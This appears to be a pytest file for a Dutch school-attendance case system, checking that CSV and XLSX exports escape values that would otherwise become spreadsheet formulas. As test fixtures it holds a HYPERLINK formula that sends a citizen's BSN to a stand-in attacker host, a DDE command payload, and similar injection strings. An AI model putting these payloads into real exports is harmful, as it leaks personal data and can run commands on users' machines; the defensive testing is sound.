"""Issue 15 point 4: no export lets a text become a spreadsheet formula (CSV injection).

A school name, a code-list label or a name that starts with = + - @ (or a tab / carriage
return) must reach the CSV with a leading single quote, and the XLSX as a text cell with that
quote: never a live formula such as =HYPERLINK(...) that sends the row's BSN when clicked.
"""

import csv
import io
from datetime import date

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from cases.codelists import seed_codelists
from cases.constants import Codelijst, Role
from reporting.renderers.xlsx import render_xlsx
from reporting.tables.base import LEERPLICHT, Report, count_table
from tests.factories import JongereFactory, MeldingFactory, SchoolFactory, UserFactory
from tests.reporting.reports import GENERATED_AT

pytestmark = pytest.mark.django_db

LINK = '=HYPERLINK("https://aanvaller.example/?bsn="&A2,"Klik hier")'


@pytest.fixture
def lpa(organisatie_a):
    seed_codelists(organisatie_a)
    return UserFactory(username="lpa-x", organisatie=organisatie_a, role=Role.LEERPLICHTAMBTENAAR)


@pytest.fixture
def melding(organisatie_a, lpa):
    reden = organisatie_a.codes.filter(lijst=Codelijst.REDEN_RELATIEF).first()
    reden.label = "+CMD|' /C calc'!A0"
    reden.save()
    jongere = JongereFactory(
        organisatie=organisatie_a, achternaam="@SUM(1+1)", geboortedatum=date(2012, 3, 4)
    )
    return MeldingFactory(dossier=jongere.dossier, school=SchoolFactory(naam=LINK), reden=reden)


def csv_rows(response) -> list[list[str]]:
    return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";"))


def xlsx_cells(response_or_bytes) -> list:
    data = getattr(response_or_bytes, "content", response_or_bytes)
    # Every sheet: the jaarverslag opens with an "Inhoud" sheet before the tables.
    sheets = load_workbook(io.BytesIO(data)).worksheets
    return [cell for sheet in sheets for row in sheet.iter_rows() for cell in row]


def assert_text_not_formula(cells, original: str):
    matching = [c for c in cells if isinstance(c.value, str) and original in c.value]
    assert matching, original
    for cell in matching:
        assert cell.data_type == "s", (cell.coordinate, cell.data_type)
        assert cell.value == "'" + original


def test_meldingen_csv_quotes_a_formula_school_and_label(client, lpa, melding):
    client.force_login(lpa)
    rows = csv_rows(client.get(reverse("meldingen"), {"export": "csv"}))
    header, row = rows[0], rows[1]
    assert row[header.index("school")] == "'" + LINK
    assert row[header.index("reden")] == "'+CMD|' /C calc'!A0"
    assert row[header.index("achternaam")] == "'@SUM(1+1)"


def test_meldingen_xlsx_writes_a_formula_school_and_label_as_text(client, lpa, melding):
    client.force_login(lpa)
    cells = xlsx_cells(client.get(reverse("meldingen"), {"export": "xlsx"}))
    assert not [c for c in cells if c.data_type == "f"]
    assert_text_not_formula(cells, LINK)
    assert_text_not_formula(cells, "+CMD|' /C calc'!A0")
    assert_text_not_formula(cells, "@SUM(1+1)")


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_jongeren_export_quotes_a_formula_name(client, lpa, melding, fmt):
    client.force_login(lpa)
    response = client.post(reverse("jongeren"), {"geboortedatum": "2012-03-04", "export": fmt})
    if fmt == "csv":
        rows = csv_rows(response)
        assert rows[1][rows[0].index("achternaam")] == "'@SUM(1+1)"
    else:
        cells = xlsx_cells(response)
        assert not [c for c in cells if c.data_type == "f"]
        assert_text_not_formula(cells, "@SUM(1+1)")


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_jaarverslag_xlsx_writes_a_formula_code_label_as_text(start):
    label = start + 'HYPERLINK("https://aanvaller.example","x")'
    table = count_table(
        table_id="meldingen_per_reden",
        titel="Meldingen per reden",
        deel=LEERPLICHT,
        labels=[label, "Ziekte"],
        counts={label: 3, "Ziekte": 2},
    )
    report = Report(
        organisatie_naam="Leerplicht Zoetermeer",
        organisatie_slug="zoetermeer",
        gemeenten=[("GM0637", "Zoetermeer")],
        schooljaar="2024-2025",
        vergelijkingsjaar=None,
        generated_at=GENERATED_AT,
        tables=[table],
    )
    cells = xlsx_cells(render_xlsx(report))
    assert not [c for c in cells if c.data_type == "f"]
    assert_text_not_formula(cells, label)
    # Numbers stay numbers.
    assert [c.value for c in cells if c.column == 2 and isinstance(c.value, int)] == [3, 2, 5]
